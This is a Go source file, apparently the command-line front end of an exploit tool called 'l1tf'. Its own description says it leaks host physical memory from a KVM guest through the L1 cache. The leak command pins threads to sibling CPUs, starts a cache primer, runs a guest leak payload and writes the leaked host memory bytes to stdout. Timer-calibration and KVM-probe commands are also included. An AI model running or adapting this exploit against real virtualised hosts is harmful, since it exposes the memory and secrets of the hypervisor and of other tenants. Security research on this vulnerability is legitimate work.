package flag

import (
	"errors"
	"fmt"
	"os"
	"runtime"
	"time"

	"github.com/alecthomas/kong"
	"github.com/pkg/profile"
	"golang.org/x/sys/unix"
	"golang.org/x/term"

	"github.com/nmi/l1tf/guest"
	"github.com/nmi/l1tf/leak"
	"github.com/nmi/l1tf/machine"
	"github.com/nmi/l1tf/primer"
	"github.com/nmi/l1tf/probe"
	"github.com/nmi/l1tf/timer"
)

var ErrStdoutIsTerminal = errors.New("stdout is a terminal, redirect it (leaked bytes are raw binary)")

func Parse() error {
	c := CLI{}

	programName := "l1tf"
	programDesc := "l1tf leaks host physical memory from a KVM guest through the L1 cache"

	ctx := kong.Parse(&c,
		kong.Name(programName),
		kong.Description(programDesc),
		kong.UsageOnError(),
		kong.ConfigureHelp(kong.HelpOptions{
			Compact: true,
			Summary: true,
		}))

	err := ctx.Run()

	return err
}

func pinSelf(cpu int) error {
	var set unix.CPUSet

	set.Zero()
	set.Set(cpu)

	if err := unix.SchedSetaffinity(0, &set); err != nil {
		return fmt.Errorf("pin vCPU thread to cpu %d: %w", cpu, err)
	}

	return nil
}

func (l *LeakCMD) Run() error {
	if term.IsTerminal(int(os.Stdout.Fd())) {
		return ErrStdoutIsTerminal
	}

	base, err := ParseNum(l.PageOffsetBase)
	if err != nil {
		return fmt.Errorf("page offset base: %w", err)
	}

	phys, err := ParseNum(l.PhysAddr)
	if err != nil {
		return fmt.Errorf("physical address: %w", err)
	}

	size, err := ParseNum(l.Size)
	if err != nil {
		return fmt.Errorf("size: %w", err)
	}

	if l.CPUProfile {
		defer profile.Start(profile.CPUProfile, profile.ProfilePath(".")).Stop()
	}

	p, err := primer.Start(l.PrimeCPU, base, primer.Mincore)
	if err != nil {
		return err
	}
	defer p.Stop()

	// The vCPU thread stays pinned to the primer's sibling so the leaked
	// lines are read from the L1 the primer keeps warm.
	runtime.LockOSThread()
	defer runtime.UnlockOSThread()

	if err := pinSelf(l.VictimCPU); err != nil {
		return err
	}

	m, err := machine.New(l.Dev, guest.LeakPayload())
	if err != nil {
		return err
	}
	defer m.Close()

	s := leak.Session{
		Leaker: m,
		Primer: p,
		Out:    os.Stdout,
	}

	return s.Run(phys, size)
}

func (t *TimerCMD) Run() error {
	// Both the signal target tid and KVM_RUN must stay on this thread.
	runtime.LockOSThread()
	defer runtime.UnlockOSThread()

	m, err := machine.New(t.Dev, guest.CountingPayload())
	if err != nil {
		return err
	}
	defer m.Close()

	tm, err := timer.New(m, unix.SIGUSR1)
	if err != nil {
		return err
	}
	defer tm.Close()

	for _, d := range []time.Duration{t.First, t.Second} {
		reps, err := timer.Bound(tm, m, d)
		if err != nil {
			return err
		}

		fmt.Printf("%v: %d reps\n", d, reps)
	}

	return nil
}

func (c *CMD) Run() error {
	return probe.KVM(c.Dev)
}
